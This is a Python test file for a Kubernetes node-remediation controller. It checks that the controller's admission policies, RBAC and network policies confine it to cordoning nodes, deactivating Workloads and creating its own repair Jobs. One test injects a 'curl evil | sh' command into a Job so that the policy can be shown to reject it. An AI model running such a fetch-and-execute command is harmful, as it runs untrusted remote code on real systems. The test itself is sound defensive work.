"""The remediation component's pieces (components/health/node_remediation.py): what its identity may do, by RBAC and by
its admission policies evaluated as kube-apiserver evaluates them (tests/components/admission.py), and the
Jobs it makes."""

from __future__ import annotations

import copy
from typing import Any

from components.health import node_remediation as remediation
from oke_gpu_rdma.nodes.labels import POOL_LABEL
from stack_config.health.health_settings import RemediationConfig
from tests.components.admission import denials

NS = "node-remediation"
USER = {"username": f"system:serviceaccount:{NS}:{remediation.NAME}"}


def node(pool: str = "gpu-b4-a", **spec: Any) -> dict[str, Any]:
    return {
        "metadata": {"name": "n1", "labels": {POOL_LABEL: pool}, "resourceVersion": "1"},
        "spec": {"providerID": "oci://x", **spec},
        "status": {"conditions": []},
    }


def test_the_controller_may_cordon_and_uncordon_a_node_of_its_pools_only() -> None:
    policy = remediation.node_policy(NS, ["gpu-b4-a"], 36)
    old = node()
    assert denials(policy, {"userInfo": USER}, node(unschedulable=True), old) == []
    assert denials(policy, {"userInfo": USER}, node(), node(unschedulable=True)) == []
    other = node("gpu-b4-b")
    assert denials(policy, {"userInfo": USER}, node("gpu-b4-b", unschedulable=True), other) == [
        "the remediation controller may cordon only nodes of gpu-b4-a"
    ]
    labelled = copy.deepcopy(old)
    labelled["metadata"]["labels"]["evil"] = "1"
    assert denials(policy, {"userInfo": USER}, labelled, old) == [
        "the remediation controller may change only a node's spec.unschedulable"
    ]
    owned = copy.deepcopy(old) | {"metadata": old["metadata"] | {"ownerReferences": [{"kind": "Pod"}]}}
    assert denials(policy, {"userInfo": USER}, owned, old) == [
        "the remediation controller may change only a node's spec.unschedulable"
    ]
    # Anyone else is not this policy's.
    assert denials(policy, {"userInfo": {"username": "admin"}}, labelled, old) is None


def test_the_controller_may_change_only_a_workloads_spec_active() -> None:
    policy = remediation.workload_policy(NS)
    old = {
        "metadata": {"labels": {"a": "b"}},
        "spec": {"queueName": "q", "podSets": [{"name": "main", "count": 2}]},
    }
    deactivated = copy.deepcopy(old)
    deactivated["spec"]["active"] = False
    assert denials(policy, {"userInfo": USER}, deactivated, old) == []
    grown = copy.deepcopy(deactivated)
    grown["spec"]["podSets"][0]["count"] = 4
    assert denials(policy, {"userInfo": USER}, grown, old) == [
        "the remediation controller may change only a Workload's spec.active"
    ]


def test_the_controller_creates_only_its_repair_jobs_and_the_fabric_checks() -> None:
    config = RemediationConfig.model_validate({"pools": ["gpu-b4-a"]})
    policy = remediation.job_policy(NS, "rdma-dranet", config.image, "check-image")
    repair = remediation.repair_job(config)
    assert denials(policy, {"userInfo": USER, "namespace": NS}, repair) == []
    elsewhere = denials(policy, {"userInfo": USER, "namespace": "kube-system"}, repair)
    assert elsewhere == ["the remediation controller may create only its repair Jobs and the fabric check's"]
    changed = copy.deepcopy(repair)
    changed["spec"]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
    assert denials(policy, {"userInfo": USER, "namespace": NS}, changed)
    check = {
        "spec": {
            "template": {
                "spec": {"serviceAccountName": "fabric-check", "containers": [{"image": "check-image"}]}
            }
        }
    }
    assert denials(policy, {"userInfo": USER, "namespace": "rdma-dranet"}, check) == []
    as_admin = copy.deepcopy(check)
    as_admin["spec"]["template"]["spec"]["serviceAccountName"] = "default"
    assert denials(policy, {"userInfo": USER, "namespace": "rdma-dranet"}, as_admin)


def test_rbac_reads_device_taint_rules_only_where_the_marks_are_written_there() -> None:
    def resources(mode: str) -> set[str]:
        return {r for rule in remediation.cluster_rules(mode) for r in rule["resources"]}  # type: ignore[arg-type]

    assert "devicetaintrules" in resources("device") and "devicetaintrules" not in resources("node")
    # Cordon and uncordon are a patch; nothing may be deleted, and no secret read.
    verbs = {v for rule in remediation.cluster_rules("device") for v in rule["verbs"]}
    assert verbs == {"list", "patch", "create"}


def test_the_controllers_settings_are_the_stack_configs() -> None:
    config = RemediationConfig.model_validate(
        {"pools": ["p"], "afterMinutes": 2, "graceMinutes": 3, "maxNodesPerPool": 2, "keepSchedulable": 4}
    )
    assert remediation.settings(config) == {
        "after_seconds": 120,
        "grace_seconds": 180,
        "drain_seconds": 1800,
        "replace_seconds": 5400,
        "max_per_pool": 2,
        "max_attempts": 2,
        "min_schedulable": 4,
    }


def test_only_prometheus_scrapes_the_controller_and_the_controller_reaches_the_api_server_only() -> None:
    from oke_gpu_rdma.common import network_policies as np
    from oke_gpu_rdma.monitoring import chart_pods

    policies = [
        np.api_server_only("api-server-only", NS, remediation.POD_LABELS),
        np.https_out("repair-https-out", NS, remediation.REPAIR_LABELS),
        np.scraped_by_prometheus(
            "metrics-ingress", NS, remediation.POD_LABELS, remediation.METRICS_PORT, "monitoring", True
        ),
    ]
    controller = np.Endpoint(NS, remediation.POD_LABELS)
    repair = np.Endpoint(NS, remediation.REPAIR_LABELS)
    prometheus = np.Endpoint(
        "monitoring", {**chart_pods.PROMETHEUS.labels, "kubernetes.io/metadata.name": "monitoring"}
    )
    training = np.Endpoint("rdma-dranet", {"app": "train"})
    assert np.connects(policies, prometheus, controller, remediation.METRICS_PORT)
    assert not np.connects(policies, training, controller, remediation.METRICS_PORT)
    assert not np.connects(policies, prometheus, controller, 8080)
    assert np.connects(policies, controller, None, 443) and not np.connects(
        policies, controller, training, 80
    )
    assert np.connects(policies, repair, None, 443) and not np.connects(policies, training, repair, 443)


def test_a_check_job_that_found_no_idle_peer_runs_again_until_its_deadline() -> None:
    cronjob = {
        "jobTemplate": {
            "spec": {
                "backoffLimit": 0,
                "template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "controller"}]}},
            }
        }
    }
    job = remediation.check_job(cronjob, 5400)
    assert job["spec"]["activeDeadlineSeconds"] == 5400 and job["spec"]["backoffLimit"] == 0
    assert job["spec"]["podFailurePolicy"] == {
        "rules": [
            {
                "action": "Ignore",
                "onExitCodes": {
                    "containerName": "controller",
                    "operator": "In",
                    "values": [remediation.NOT_CHECKED_STATUS],
                },
            }
        ]
    }
    # The CronJob's own template is left as it was.
    assert "podFailurePolicy" not in cronjob["jobTemplate"]["spec"]
